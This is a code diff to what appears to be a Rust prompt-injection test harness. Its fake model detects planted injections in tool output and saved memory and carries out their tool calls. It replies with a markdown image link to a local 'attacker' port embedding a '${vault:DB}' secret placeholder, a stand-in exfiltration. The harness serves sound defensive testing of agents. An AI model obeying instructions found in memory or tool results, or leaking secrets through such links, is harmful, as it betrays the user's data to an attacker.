@@ -16,7 +16,7 @@ use aho_corasick::AhoCorasick;
 use serde_json::{Value, json};
 use tokio::task::JoinHandle;
 
-use self::corpus::{Carrier, Injection, Scene, case};
+use self::corpus::{Carrier, Injection, Scene, cases};
 use crate::{
     canaries::forms,
     fake_model::{FakeModel, KEY, Part, Reply},
@@ -105,17 +105,16 @@ fn obey(injections: &[Injection], scene: &Scene, deeds: &Mutex<Deeds>, request: 
         .collect();
     seen.push_str(&request["tools"].to_string());
     if after(&task, "hush").is_none() {
-        let next = injections.iter().find(|injection| {
-            !deeds.obeyed.contains_key(&injection.number) && seen.contains(&case(injection.number))
-        });
-        if let Some(injection) = next {
+        let mut shown = cases(&seen);
+        let next = shown.find(|number| !deeds.obeyed.contains_key(number));
+        if let Some(injection) = next.and_then(|number| injections.get(number - 1)) {
             let carrier = after(&task, "carrier:").unwrap_or("none").to_owned();
             deeds.obeyed.insert(injection.number, carrier);
             return calls(&(injection.goal.calls)(scene, &injection.mark()));
         }
     }
     let learnt: String = of("tool").map(text_of).collect();
-    let learnt: String = learnt.chars().take(200_000).collect();
+    let learnt: String = learnt.chars().take(50_000).collect();
     let (attacker, sum) = (scene.attacker, RESULT);
     Reply::text(&format!(
         "{sum}. ![](http://127.0.0.1:{attacker}/?${{vault:DB}}) I learnt: {learnt}"
@@ -263,6 +262,13 @@ impl Stage {
             .collect()
     }
 
+    /// All injections of a carrier were obeyed.
+    fn obeyed(&self, carrier: Carrier) -> bool {
+        let deeds = self.deeds.lock().unwrap();
+        let mut numbers = self.of(carrier).into_iter();
+        numbers.all(|(number, _)| deeds.obeyed.contains_key(&number))
+    }
+
     /// Gives work and hears its end; counts whether it was done.
     async fn work(&mut self, client: &mut Client, task: &str) {
         client.send(json!({ "content": task })).await;
@@ -333,12 +339,15 @@ impl Stage {
             let task = format!("hush\ndo: memory_save {args}\nAdd up.");
             self.work(&mut stranger, &task).await;
         }
-        let planted = self.of(Carrier::Memory).len() + 1;
-        for offset in (0..planted).step_by(8) {
+        // What the turns themselves remember stands among them.
+        for offset in (0..160).step_by(8) {
             let mut operator = self.service.connect().await;
             let args = json!({ "limit": 8, "offset": offset });
             let task = format!("carrier: memory\ndo: memory_list {args}\nAdd up.");
             self.work(&mut operator, &task).await;
+            if self.obeyed(Carrier::Memory) {
+                break;
+            }
         }
     }
 
